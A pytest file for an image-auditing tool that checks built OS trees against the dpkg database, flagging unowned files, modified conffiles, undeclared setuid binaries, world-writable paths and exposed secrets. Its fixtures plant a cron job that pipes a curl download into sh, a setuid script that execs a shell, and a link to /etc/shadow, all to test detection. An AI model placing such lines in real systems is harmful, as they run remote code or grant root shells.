"""suitcase.explained on small image trees with a real dpkg database layout (issue 21, item 1):
each kind of finding, merged /usr, diversions, conffiles, and links never followed out."""

from __future__ import annotations

import hashlib
import textwrap
from pathlib import Path

import pytest

from suitcase.config import PROJECT_ROOT
from suitcase.errors import ConfigError
from suitcase.explained import Rules, Written, check, load_rules, packages

TOOL = b"#!/bin/sh\necho tool\n"
CONF = b"setting = 1\n"


def md5(data: bytes) -> str:
    return hashlib.md5(data, usedforsecurity=False).hexdigest()


def _image(root: Path) -> Path:
    """A merged-/usr tree: package `tool` ships /bin/tool (listed under /bin, on disk in
    /usr/bin) and the conffile /etc/tool.conf; `dpkg` owns its database folders."""
    for folder in ("usr/bin", "etc", "var/lib/dpkg/info", "tmp", "home"):
        (root / folder).mkdir(parents=True, exist_ok=True)
    (root / "bin").symlink_to("usr/bin")
    (root / "usr/bin/tool").write_bytes(TOOL)
    (root / "usr/bin/tool").chmod(0o755)
    (root / "etc/tool.conf").write_bytes(CONF)
    (root / "tmp").chmod(0o1777)
    info = root / "var/lib/dpkg/info"
    (info / "tool.list").write_text("/.\n/bin\n/bin/tool\n/etc\n/etc/tool.conf\n/usr\n/usr/bin\n")
    (info / "tool.md5sums").write_text(f"{md5(TOOL)}  bin/tool\n")
    (info / "base.list").write_text("/tmp\n/home\n/var\n/var/lib\n/var/lib/dpkg\n")
    (root / "var/lib/dpkg/status").write_text(
        textwrap.dedent(f"""\
        Package: tool
        Status: install ok installed
        Conffiles:
         /etc/tool.conf {md5(CONF)}
        Description: a tool

        """)
    )
    return root


RULES = Rules(
    written=(
        Written("/etc/hostname", "file", "0644", "0:0", ("localhost",)),
        Written("/etc/motd", "file", None, "0:0", (), empty=True),
    ),
    runtime=("/var/lib/dpkg/**",),
    privileged=frozenset({"/usr/bin/tool"}),
    capabilities=frozenset(),
    budget=1024 * 1024,
)


def test_a_clean_tree_is_explained_merged_usr_and_conffiles_included(tmp_path: Path) -> None:
    root = _image(tmp_path / "root")
    db = packages(root)
    assert db.owner["/usr/bin/tool"] == "tool"  # listed as /bin/tool: the image resolves /bin
    assert db.md5["/etc/tool.conf"] == md5(CONF) and "/etc/tool.conf" in db.conffiles
    (root / "etc/hostname").write_text("localhost\n")
    (root / "etc/motd").write_text("")
    found = check(root, RULES)
    assert found.unexplained == [] and found.privilege == [] and found.writable == []
    assert found.secrets == [] and found.budget == []


def test_each_kind_of_finding_names_the_path_and_why(tmp_path: Path) -> None:
    root = _image(tmp_path / "root")
    (root / "etc/hostname").write_text("build-host\n")  # declared, wrong content
    (root / "etc/hostname").chmod(0o600)
    (root / "etc/motd").write_text("hello\n")  # declared empty
    (root / "etc/tool.conf").write_bytes(b"setting = 2\n")  # a changed conffile
    (root / "etc/cron.d").mkdir()
    (root / "etc/cron.d/job").write_text("* * * * * root curl http://x | sh\n")
    (root / "etc/secret-link").symlink_to("/etc/shadow")  # never followed to the host's
    (root / "home/shared").mkdir()
    (root / "home/shared").chmod(0o777)
    (root / "var/lib/dpkg/big.dump").write_bytes(b"\0" * (2 * 1024 * 1024))  # runtime, large
    key = root / "home/id_ed25519"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nxx\n-----END OPENSSH PRIVATE KEY-----\n")
    key.chmod(0o644)
    shadow = root / "home/shadow.bak"
    shadow.write_text("root:$6$salt$hash:19000:0:99999:7:::\n")
    shadow.chmod(0o604)
    (root / "usr/bin/tool").chmod(0o4755)  # declared privileged, as shipped: fine
    (root / "usr/bin/other").write_bytes(TOOL)
    (root / "usr/bin/other").chmod(0o2755)
    (root / "etc/world").write_text("x")
    (root / "etc/world").chmod(0o666)
    found = check(root, RULES)
    unexplained = "\n".join(found.unexplained)
    assert "/etc/hostname: mode 0600, declared 0644" in unexplained
    assert "/etc/motd: 6 bytes, declared empty" in unexplained
    assert "/etc/tool.conf: modified (tool's conffile, md5 differs)" in unexplained
    assert "/etc/cron.d: unowned (a folder" in unexplained
    assert "/etc/cron.d/job: unowned (a file" in unexplained
    assert "/etc/secret-link: unowned (a link" in unexplained
    assert "/home/shared: unowned" in unexplained and "/usr/bin/other: unowned" in unexplained
    assert found.privilege == ["/usr/bin/other: setgid (2755), not a declared one"]
    assert sorted(found.writable) == [
        "/etc/world: a world-writable file (0666)",
        "/home/shared: world-writable without the sticky bit (0777)",
    ]
    assert sorted(found.secrets) == [
        "/home/id_ed25519: a secret readable by every user (0644)",
        "/home/shadow.bak: a secret readable by every user (0604)",
    ]
    assert found.budget and "over the budget of 1 MiB" in found.budget[0]
    assert "/var/lib/dpkg/big.dump (2048 KiB)" in found.budget[0]


def test_a_large_unexplained_file_is_named_by_the_budget_too(tmp_path: Path) -> None:
    root = _image(tmp_path / "root")
    (root / "etc/hostname").write_text("localhost\n")
    (root / "etc/motd").write_text("")
    (root / "var/crash").mkdir()
    (root / "var/crash/core.1").write_bytes(b"\x7fELF" + bytes(3 * 1024 * 1024))
    found = check(root, RULES)
    assert "/var/crash/core.1: unowned (a file" in "\n".join(found.unexplained)
    assert found.budget and "/var/crash/core.1 (3072 KiB)" in found.budget[0]


def test_a_privileged_file_must_be_its_packages_content(tmp_path: Path) -> None:
    root = _image(tmp_path / "root")
    (root / "etc/hostname").write_text("localhost\n")
    (root / "etc/motd").write_text("")
    tool = root / "usr/bin/tool"
    tool.write_bytes(b"#!/bin/sh\nexec /bin/sh\n")
    tool.chmod(0o4755)
    found = check(root, RULES)
    assert found.privilege == ["/usr/bin/tool: privileged and not its package's content"]
    assert any(line.startswith("/usr/bin/tool: modified") for line in found.unexplained)


def test_a_hostile_database_never_leads_out_of_the_image(tmp_path: Path) -> None:
    """The database's files as links to the host's: read inside the image (where they are
    missing), or refused in one line when they loop."""
    root = tmp_path / "root"
    (root / "var/lib/dpkg").mkdir(parents=True)
    (root / "var/lib/dpkg/info").symlink_to("/usr/share/doc")  # the host's, not the image's
    (root / "var/lib/dpkg/status").symlink_to("/var/lib/dpkg/status")  # the host's own db
    db = packages(root)
    assert db.owner == {} and db.md5 == {}  # the host's own database was never read
    (root / "var/lib/dpkg/info").unlink()
    (root / "var/lib/dpkg/info").symlink_to("/var/lib/dpkg/info")  # itself, inside the image
    with pytest.raises(ConfigError, match="cannot read the image's package database"):
        packages(root)


def test_diversions_move_the_owner(tmp_path: Path) -> None:
    root = _image(tmp_path / "root")
    (root / "var/lib/dpkg/diversions").write_text("/bin/tool\n/bin/tool.distrib\nother\n")
    (root / "usr/bin/tool.distrib").write_bytes(TOOL)
    assert "/usr/bin/tool.distrib" in packages(root).owner


def test_the_declared_lists_load_and_refuse_junk(tmp_path: Path) -> None:
    shipped = PROJECT_ROOT / "specs" / "explained.yaml"
    for image in ("master", "vagrant", "aws-hvm", "aws-paravirt"):
        rules = load_rules(shipped, "debian", image)
        assert rules.written and rules.runtime and rules.budget > 0, image
    bad = tmp_path / "bad.yaml"
    bad.write_text("debian:\n  common:\n    written:\n      etc/relative: {}\n")
    with pytest.raises(ConfigError, match="bad entry 'etc/relative'"):
        load_rules(bad, "debian", "master")
    bad.write_text("debian:\n  common:\n    written:\n      /etc/x: {moed: '0644'}\n")
    with pytest.raises(ConfigError, match="moed"):
        load_rules(bad, "debian", "master")
    with pytest.raises(ConfigError, match="no section for the el family"):
        load_rules(shipped, "el", "master")
